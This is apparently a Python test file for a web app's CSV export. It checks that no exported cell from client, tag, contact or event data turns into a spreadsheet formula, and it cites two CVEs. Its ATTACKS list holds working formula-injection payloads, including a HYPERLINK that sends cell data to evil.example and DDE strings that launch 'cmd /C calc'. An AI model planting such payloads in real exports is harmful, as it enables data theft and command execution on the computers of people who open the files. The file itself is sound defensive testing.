"""I09, SuiteCRM CVE-2021-25960 (fix bypassed once), Kimai CVE-2026-42267 (joined tags skipped the sanitiser): no cell of an
export is a formula (ASVS 1.2.10).
"""

import csv
import io
from datetime import UTC

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from models.base.event import Event
from models.clients.contact import Contact
from models.clients.link import Link
from models.clients.linking import link_contact
from models.clients.tag import AccountTag, Tag
from web.csv_export import lines

pytestmark = pytest.mark.knows_no_engine

BAD = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
ATTACKS = (
    '=HYPERLINK("http://evil.example?x="&A1;"Klik")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\x00=1+1",
    "＝1+1",
    '";=1+1;"',
    "'=1+1"[1:],
)

texts = st.one_of(
    st.sampled_from(ATTACKS),
    st.text(),
    st.builds(
        str.__add__,
        st.sampled_from(["", " ", "\t", "\r\n", "\ufeff", "\x0b", '"', ";"]),
        st.sampled_from(ATTACKS),
    ),
)
values = st.one_of(
    st.none(),
    texts,
    st.booleans(),
    st.integers(),
    st.decimals(allow_nan=False, allow_infinity=False, places=2),
    st.dates(),
    st.datetimes(timezones=st.just(UTC)),
    st.lists(texts, max_size=3),
    st.lists(st.integers(), max_size=2).map(tuple),
)


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";"))


def dangerous(cell: str) -> bool:
    """As spreadsheets read it: what they leave out in front, then the beginning of a formula."""
    return cell.startswith(BAD) or cell.lstrip(" \ufeff\u200b\x00\x0b").startswith(BAD)


@pytest.mark.asvs("1.2.10")
@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(row=st.lists(values, min_size=1, max_size=5))
@example(row=list(ATTACKS))
@example(row=[[each] for each in ATTACKS])
@example(row=[["", each] for each in ATTACKS])
@example(row=[-1, (-1, 2)])
def test_no_value_of_any_type_becomes_a_formula(app, row):
    with app.test_request_context("/?lang=da"):
        (read,) = cells("".join(lines([row])))
    assert len(read) == len(row)
    assert not [cell for cell in read if dangerous(cell)]


def export(browser, path, **asked) -> list[list[str]]:
    response = browser.post(path, data=asked)
    assert response.status_code == 200, response.text
    return cells(response.text)


@pytest.mark.asvs("1.2.10")
@pytest.mark.parametrize("attack", ["=1+1", "+1", "-1", "@SUM(1)", "\t=1", "=1;2", '="', "＝1"])
def test_every_cell_of_every_export(browse, cast, attack):
    """A name of everything that the lists name: client, team, tag, contact, the asker and what was asked for."""
    olga = cast.olga
    cast.a.rename(attack, olga)
    cast.alice.amend(olga, name=attack)
    AccountTag.add(olga, account=cast.a, tag=Tag.add(olga, name=attack))
    link_contact(cast.a, Contact.meet(olga, first_name=attack, last_name=""), olga)
    Link.of_account(cast.a).first().contact.rename(attack, "", olga)
    Event.log("sign_in.failed", None, attack, factor=attack, address=attack)
    Event.log("refusal.made", cast.alice, attack, cast.a.id, method=attack, status=attack, address=attack)
    Event.log("export.made", cast.alice, attack, what=attack, rows=attack, address=attack)
    Event.log("access.broke_glass", cast.alice, attack, cast.a.id)
    browser = browse(olga)
    lists = [export(browser, "/accounts/exports"), export(browser, "/activity/exports")]
    for rows in lists:
        assert len({len(row) for row in rows}) == 1
        assert not [cell for row in rows for cell in row if dangerous(cell)]
    told = [cell for row in lists[0] for cell in row if attack.strip() in cell]
    assert len(told) == 4  # the name, the team, the tags, the contacts
